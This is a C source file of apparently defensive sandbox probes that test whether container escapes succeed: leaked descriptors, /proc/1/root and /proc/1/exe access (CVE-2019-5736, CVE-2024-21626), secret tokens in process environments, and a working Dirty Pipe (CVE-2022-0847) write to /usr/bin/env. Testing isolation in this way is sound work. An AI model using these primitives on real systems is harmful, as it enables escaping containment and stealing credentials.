/* SPDX-License-Identifier: Apache-2.0 */

/* What was left open, and programs that run: 59 to 61, 68, and CVE-2022-0847. */

#include "probe.h"

#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#define REPORT 900 /* that of the program itself */

static long only_three(void)
{
        for (int fd = 3; fd < 65536; fd++)
                if (fd != REPORT && fcntl(fd, F_GETFD) >= 0) {
                        char path[64], to[128] = "";

                        (void) snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
                        (void) !readlink(path, to, sizeof(to) - 1);
                        note("%d %s ", fd, to);
                        return -EEXIST;
                }
        return 0;
}

/* A directory among them would lead out (CVE-2024-21626). */
static long dir_among_them(void)
{
        for (int fd = 0; fd < 65536; fd++) {
                struct stat st;

                if (fstat(fd, &st) == 0 && S_ISDIR(st.st_mode))
                        return fd;
        }
        return -EBADF;
}

static long climb_from_descriptors(void)
{
        for (int fd = 0; fd < 1024; fd++) {
                char path[64];

                (void) snprintf(path, sizeof(path), "/proc/self/fd/%d/../../..", fd);
                if (try_open(path, O_RDONLY | O_DIRECTORY) >= 0)
                        return fd;
        }
        return outcome(-1);
}

static long roots_of_others(const char *path)
{
        return try_open(path, O_RDONLY | O_DIRECTORY);
}

static long root_of_agent(void)
{
        static const char *const paths[] = { "/proc/1/root", "/proc/1/cwd", "/proc/1/task/1/root" };

        return try_each(paths, COUNT(paths), roots_of_others);
}

static long own_root_is_the_root(void)
{
        struct stat root, other;

        if (stat("/", &root) < 0 || stat("/proc/self/root/..", &other) < 0)
                return outcome(-1);
        return root.st_ino == other.st_ino && root.st_dev == other.st_dev ? 0 : -EXDEV;
}

/* --- 61: CVE-2019-5736 --- */

static long write_program(const char *path)
{
        const long r = try_open(path, O_WRONLY);

        return r < 0 ? try_open(path, O_RDWR | O_TRUNC) : r;
}

static long agents_program(void)
{
        static const char *const paths[] = { "/proc/1/exe", "/proc/1/task/1/exe" };

        return try_each(paths, COUNT(paths), write_program);
}

static long read_program(const char *path)
{
        return try_open(path, O_RDONLY);
}

static long read_agents_program(void)
{
        static const char *const paths[] = { "/proc/1/exe", "/proc/1/task/1/exe" };

        return try_each(paths, COUNT(paths), read_program);
}

/* --- 68 --- */

static bool is_secret(const char *variable)
{
        return strstr(variable, "CANARY") || strstr(variable, "EXECD_ACCESS_TOKEN")
               || strstr(variable, "HUTCH_EXECD");
}

static long own_environment(void)
{
        for (char **e = environ; *e; e++)
                if (is_secret(*e)) {
                        note("%.40s ", *e);
                        return -EEXIST;
                }
        return 0;
}

/* Every environment that can be read at all. */
static long environments(void)
{
        DIR *d = opendir("/proc");
        long r = 0;

        if (!d)
                return outcome(-1);
        for (const struct dirent *e; r == 0 && (e = readdir(d));) {
                static char text[65536];
                char path[300];
                long n;

                if (e->d_name[0] < '1' || e->d_name[0] > '9')
                        continue;
                (void) snprintf(path, sizeof(path), "/proc/%s/environ", e->d_name);
                n = read_file(path, text, sizeof(text));
                for (long at = 0; at < n; at += (long) strlen(text + at) + 1)
                        if (is_secret(text + at)) {
                                note("%s ", path);
                                r = -EEXIST;
                        }
        }
        (void) closedir(d);
        return r;
}

static long agents_environment(void)
{
        return try_open("/proc/1/environ", O_RDONLY);
}

/* --- a file that can be read only, by its pages in a pipe --- */

static long dirty_pipe(void)
{
        static const char *const file = "/usr/bin/env";
        const int fd = open(file, O_RDONLY | O_CLOEXEC);
        char before, after;
        loff_t at = 0;
        int ends[2];

        if (fd < 0 || pread(fd, &before, 1, 1) != 1 || pipe2(ends, O_CLOEXEC) < 0)
                return outcome(-1);
        for (int i = 0; i < 16; i++) {
                static char page[4096];

                if (write(ends[1], page, sizeof(page)) < 0 || read(ends[0], page, sizeof(page)) < 0)
                        return outcome(-1);
        }
        if (splice(fd, &at, ends[1], NULL, 1, 0) != 1)
                return outcome(-1);
        after = (char) ~before;
        if (write(ends[1], &after, 1) != 1 || pread(fd, &after, 1, 1) != 1)
                return outcome(-1);
        return before == after ? 0 : -EDOM;
}

static const struct probe probes[] = {
        { 31, "dirty-pipe", dirty_pipe, INSIDE, { 0 } },
        { 59, "only-three", only_three, INSIDE, { 0 } },
        { 60, "directory-among-them", dir_among_them, INSIDE, { EBADF } },
        { 60,
          "climb-from-descriptors",
          climb_from_descriptors,
          INSIDE,
          { ENOENT, ENOTDIR, EACCES } },
        { 60, "root-of-agent", root_of_agent, INSIDE, { EACCES } },
        { 60, "own-root", own_root_is_the_root, OUTSIDE, { 0 } },
        { 61, "write-agents-program", agents_program, INSIDE, { EACCES, EROFS } },
        { 61, "read-agents-program", read_agents_program, INSIDE, { EACCES } },
        { 68, "own-environment", own_environment, INSIDE, { 0 } },
        { 68, "environments", environments, INSIDE, { 0 } },
        { 68, "agents-environment", agents_environment, INSIDE, { EACCES } },
};

const struct probe_theme theme_descriptors = THEME(probes);
